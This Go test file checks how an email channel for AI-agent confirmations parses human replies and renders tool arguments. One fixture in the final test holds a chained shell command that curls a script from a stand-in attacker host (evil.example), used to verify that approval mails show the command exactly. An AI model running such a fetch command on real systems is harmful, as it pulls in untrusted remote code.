package email_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/askback/askback"
	"github.com/askback/askback/channel/email/emailtest"
)

// A meaning is a reply with its result.
type meaning struct {
	ask    askback.Ask
	answer string
	want   []string // nil if the server replies with the question again
	reason string   // part of the letter that asks again
}

// check sends each reply in a mailbox of its own.
func check(t *testing.T, all []meaning) {
	for _, tt := range all {
		t.Run(fmt.Sprintf("%s/%q", tt.ask.Kind, tt.answer), func(t *testing.T) {
			d := newDesk(t, nil, tt.ask)
			back := d.handled(t, tt.ask, one(func(l emailtest.Letter) string { return reply(l, plain, tt.answer) }))
			if got := labels(d.o.ask(askID)); !slices.Equal(got, tt.want) {
				t.Errorf("the answer is %q, want %q", got, tt.want)
			}
			if (len(back) > 0) != (tt.want == nil) {
				t.Fatalf("%d letters came back", len(back))
			}
			if len(back) > 0 && !strings.Contains(back[0].Text, tt.reason) {
				t.Errorf("the letter has no %q:\n%s", tt.reason, back[0].Text)
			}
		})
	}
}

func call() askback.Ask {
	return askback.Ask{
		ID: askID, Agent: "deployer", Kind: askback.Confirm, Status: askback.Pending,
		Confirmation: &askback.Confirmation{ToolName: "deploy", Input: []byte(`{"to":"prod"}`)},
	}
}

// A word alone decides, with the signs that people write around it. A sentence, a question and a word with a
// condition decide nothing.
func TestOneWordDecides(t *testing.T) {
	var all []meaning
	for _, word := range []string{
		"approve", "Approve.", "approve!", "APPROVE!!!", "Approved.", "approved", " approve ,", "*approve*",
		"“Approve”", "'approve'.", "Approve,\n\nBest regards,\nAna", "approve。",
	} {
		all = append(all, meaning{call(), word, []string{"approved"}, ""})
	}
	for _, word := range []string{"deny", "Deny.", "DENIED!", "denied", "_deny_"} {
		all = append(all, meaning{call(), word, []string{"denied"}, ""})
	}
	for _, text := range []string{
		"approve?", "approve...", "approve…", "approve:", "approve, but only on staging", "yes, but only on staging",
		"approve if the tests pass", "I approve", "approve approve", "not approve", "don't approve", "approve / deny",
		"Approved by Ben", "approve\nunless it is Friday", "approve\n\nAna", "ok", "approve\n\ndeny", "approving",
		"do not deny", "deny?",
	} {
		all = append(all, meaning{call(), text, nil, "one word approve or deny"})
	}
	check(t, all)
}

// A reply whose first line is the word decline declines to answer. The reason is below it.
func TestReplyDeclines(t *testing.T) {
	text := askback.Question{Text: "What name?"}
	database := askback.Question{Text: "Which database?", Options: askback.Options("PostgreSQL", "SQLite")}
	invitation := askback.Question{Text: "What shall I reply?", Options: askback.Options("Accept", "Decline")}
	closed := database
	closed.NoOther = true
	near := askback.Question{Text: "What shall I do?", Options: askback.Options("Accept it", "Decline it")}
	declined := func(reason string) []string { return []string{"declined", reason} }
	check(t, []meaning{
		{question(text), "decline", declined(""), ""},
		{question(text), "Decline.\n\nI do not know.\nAsk Ben.", declined("I do not know.\nAsk Ben."), ""},
		{question(text), "declined\n\nBest regards\nAna", declined(""), ""},
		{question(text), ":decline ask Ben", declined("ask Ben"), ""},
		{question(database), "decline", declined(""), ""},
		{question(closed), "Decline!", declined(""), ""},
		{question(database, text), "decline\nnot mine", declined("not mine"), ""},
		{call(), "decline", declined(""), ""},
		{call(), "decline\nI am on holiday", declined("I am on holiday"), ""},
		{question(invitation), "decline", []string{"Decline"}, ""},
		{question(invitation), "Decline.", []string{"Decline"}, ""},
		{question(near), "decline", nil, "may mean an option or that you decline"},
		{question(invitation, text), "decline", nil, "may mean an option or that you decline"},
		{question(text), "decline: I do not know", nil, "decline alone in the first line"},
		{question(database), "Decline, ask Ben", nil, "decline alone in the first line"},
		{question(database, text), "1: SQLite\n2: decline", nil, "decline alone in the first line"},
		{question(text), "decline the offer politely", []string{"decline the offer politely"}, ""},
	})
}

// A reply that can be read in two ways is asked back, and so are words that resemble an option.
func TestReplyWithTwoMeaningsIsAskedBack(t *testing.T) {
	pair := askback.Question{Text: "Which?", Options: askback.Options("A, B", "A", "B", `say "hi"`, `C:\tmp`), MultiSelect: true}
	numbers := askback.Question{Text: "Which?", Options: askback.Options("1,3", "x", "y"), MultiSelect: true}
	single, other := pair, askback.Question{Text: "Which database?", Options: askback.Options("PostgreSQL", "SQLite")}
	single.MultiSelect = false
	several := other
	several.MultiSelect = true
	signs := askback.Question{Text: "Delete what?", Options: askback.Options("src/", "src/*", "(all)", "none")}
	check(t, []meaning{
		{question(pair), "A, B", nil, "two ways"},
		{question(pair), "A,B", nil, "two ways"},
		{question(pair), "a, b", nil, "two ways"},
		{question(pair), "A,\nB", nil, "two ways"},
		{question(pair), "A, B, C:\\tmp", nil, "two ways"},
		{question(pair), `"A, B"`, []string{"A, B"}, ""},
		{question(pair), `“A, B”, say "hi"`, []string{"A, B", `say "hi"`}, ""},
		{question(pair), "A; B", []string{"A", "B"}, ""},
		{question(pair), "B, A", []string{"B", "A"}, ""},
		{question(pair), "2,3", []string{"A", "B"}, ""},
		{question(pair), "#1", []string{"A, B"}, ""},
		{question(pair), `say "hi", C:\tmp`, []string{`say "hi"`, `C:\tmp`}, ""},
		{question(numbers), "1,3", nil, "two ways"},
		{question(numbers), "1, 3", nil, "two ways"},
		{question(numbers), "1\n3", []string{"1,3", "y"}, ""},
		{question(numbers), "#1", []string{"1,3"}, ""},
		{question(single), "A, B", []string{"A, B"}, ""},
		{question(other), "SQLite.", []string{"SQLite"}, ""},
		{question(other), "“SQLite”", []string{"SQLite"}, ""},
		{question(other), "(2)", []string{"SQLite"}, ""},
		{question(other), "2nd", nil, "more words"},
		{question(other), "the second one", nil, "more words"},
		{question(other), "B", nil, "more words"},
		{question(other), "b)", nil, "more words"},
		{question(other), "Option B", nil, "more words"},
		{question(other), "SQLlite", nil, "more words"},
		{question(other), "Postgres", nil, "more words"},
		{question(other), "SQLite or PostgreSQL", nil, "more words"},
		{question(other), "X", []string{"X"}, ""},
		{question(several), "both", nil, "more words"},
		{question(signs), "src/*", []string{"src/*"}, ""},
		{question(signs), "src/*.", nil, "two ways"},
		{question(signs), `"src/*"`, nil, "two ways"},
		{question(signs), "src/.", []string{"src/"}, ""},
		{question(signs), "(all).", []string{"(all)"}, ""},
		{question(signs), "“(all)”!", []string{"(all)"}, ""},
		{question(signs), "*none*.", []string{"none"}, ""},
		{question(several), "1, Sqlit", nil, "more words"},
	})
}

// Arguments, previews and code are the text that a person approves, in both parts of a mail. Only addresses
// elsewhere have a joiner.
func TestExactTextHasNoJoiner(t *testing.T) {
	a := call()
	a.Confirmation = &askback.Confirmation{
		ToolName:     "shell",
		Input:        []byte(`{"command":"go test ./... && curl https://evil.example/a.sh","mail":"ana@evil.example"}`),
		InputPreview: "$ go  test ./...\n$ curl https://evil.example/a.sh",
		Description: "See https://evil.example/x, www.evil.example or mail ana@evil.example, file://x. Not evil.com, " +
			"e.g. here.",
		Context: "tx, err := db.Begin() in ./cmd/x.md:10, pkg@1.2.3, `README.md`, C:\\tmp\\a and 10:30.",
	}
	s := emailtest.Start(t, emailtest.Options{})
	got := send(t, s, newChannel(t, options(t, s, emailtest.None)), about(a, "ana"))
	for part, text := range map[string]string{"text": got.Text, "HTML": visibleWith(t, got.Markup, false)} {
		for _, want := range []string{
			"command: “go test ./... && curl https://evil.example/a.sh”", "mail: “ana@evil.example”",
			"$ go  test ./...", "$ curl https://evil.example/a.sh",
			"tx, err := db.Begin() in ./cmd/x.md:10, pkg@1.2.3, `README.md`, C:\\tmp\\a and 10:30.",
			"https:\u2060//evil.\u2060example/x,", "www.\u2060evil.\u2060example ", "ana@\u2060evil.\u2060example,",
			"file:\u2060//x.", "evil.\u2060com, e.g. here.",
		} {
			if !strings.Contains(text, want) {
				t.Errorf("the %s has no %q:\n%q", part, want, text)
			}
		}
	}
	preview := question(askback.Question{Text: "Which?", Options: []askback.Option{
		{Label: "a", Preview: "go test ./...\n\tcurl https://evil.example/x"}, {Label: "b"},
	}})
	got = send(t, s, newChannel(t, options(t, s, emailtest.None)), about(preview, "ana"))
	for part, text := range map[string]string{"text": got.Text, "HTML": visibleWith(t, got.Markup, false)} {
		if !strings.Contains(text, "go test ./...\n") || !strings.Contains(text, "curl https://evil.example/x\n") {
			t.Errorf("the %s changes the preview:\n%q", part, text)
		}
	}
}
